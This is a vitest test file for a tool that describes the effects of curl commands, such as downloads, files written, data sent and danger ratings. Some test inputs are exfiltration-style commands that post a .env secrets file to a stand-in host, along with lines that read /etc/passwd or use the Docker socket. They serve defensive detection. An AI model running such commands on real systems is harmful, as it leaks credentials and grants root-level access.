import { expect, test } from "vitest";
import { effectsOf, told } from "../testing-effects.ts";

const tells = (line: string): string[] =>
  told(effectsOf([], line)).filter((words) => !words.startsWith("prints"));

test.each([
  ["curl https://x.example/a", ["fetches https://x.example/a"]],
  ["curl -sSfL https://x.example/a", ["fetches https://x.example/a"]],
  ["curl --url=https://x.example/a", ["fetches https://x.example/a"]],
  ["curl -o a.sh https://x.example/a", ["writes a.sh replaces …", "fetches https://x.example/a"]],
  ["curl -oa.sh https://x.example/a", ["writes a.sh replaces …", "fetches https://x.example/a"]],
  ["curl -sLo /tmp/a https://x.example/a", ["writes /tmp/a replaces …", "fetches https://x.example/a"]],
  [
    "curl -O https://x.example/b/a.tgz?x=1",
    ["writes a.tgz replaces …", "fetches https://x.example/b/a.tgz?x=1"],
  ],
  [
    "curl --output-dir out -OJ https://x.example/a",
    ["writes out/a replaces …", "fetches https://x.example/a"],
  ],
  [
    "curl -D h.txt -c jar https://x.example",
    ["writes h.txt replaces", "writes jar replaces", "fetches https://x.example"],
  ],
  ["curl file:///etc/passwd", ["reads /etc/passwd"]],
])("a download reports its URL and every file it writes: %s", (line, effects) => {
  expect(tells(line)).toEqual(effects);
});

test.each([
  ["curl -d a=b https://x.example", "sends https://x.example a=b "],
  ["curl -d @.env https://x.example", "sends https://x.example  .env"],
  ["curl --data-binary=@.env https://x.example", "sends https://x.example  .env"],
  ["curl --data-urlencode k@.env https://x.example", "sends https://x.example  .env"],
  ["curl -F f=@a.txt;type=text/plain https://x.example", "sends https://x.example  a.txt"],
  ["curl -F f=<a.txt https://x.example", "sends https://x.example  a.txt"],
  ["curl -T a.txt https://x.example", "sends https://x.example  a.txt"],
  ["curl -T - https://x.example", "sends https://x.example   deep"],
  ["curl -b jar https://x.example", "sends https://x.example  jar"],
  ["curl -H @headers https://x.example", "sends https://x.example  headers"],
  ["curl -X DELETE https://x.example/1", "sends https://x.example/1  "],
])("data, files and headers of a request are reported as sent: %s", (line, effect) => {
  expect(tells(line)).toContain(effect);
});

test.each([
  "curl -H Accept:_text/plain https://x.example",
  "curl -G -d q=a https://x.example",
  "curl -X GET https://x.example",
  "curl -b a=b https://x.example",
  "curl -u me:pass https://x.example",
])("a plain request sends nothing: %s", (line) => {
  expect(tells(line)).toEqual(["fetches https://x.example"]);
});

test("a config file, code, the password file and the container engine's socket are reported", () => {
  expect(tells("curl -K x.cfg")).toEqual([
    "reads x.cfg",
    "danger high it takes its options from a file, which can send and overwrite files",
  ]);
  expect(tells("curl --engine ./x https://x.example")).toContain(
    "danger high its option --engine loads code",
  );
  expect(tells("curl -n https://x.example")).toContain("reads /home/dev/.netrc");
  expect(tells("curl --unix-socket /run/docker.sock http://x/y")).toContain(
    "danger critical it commands the container engine, which is root on this machine",
  );
});

test("output comes from the network unless it goes to a file", () => {
  const prints = (line: string): string[] =>
    told(effectsOf([], line)).filter((words) => words.startsWith("prints"));
  expect(prints("curl https://x.example")).toEqual(["prints network"]);
  expect(prints("curl -o - https://x.example")).toEqual(["prints network"]);
  expect(prints("curl -o a https://x.example")).toEqual(["prints "]);
});
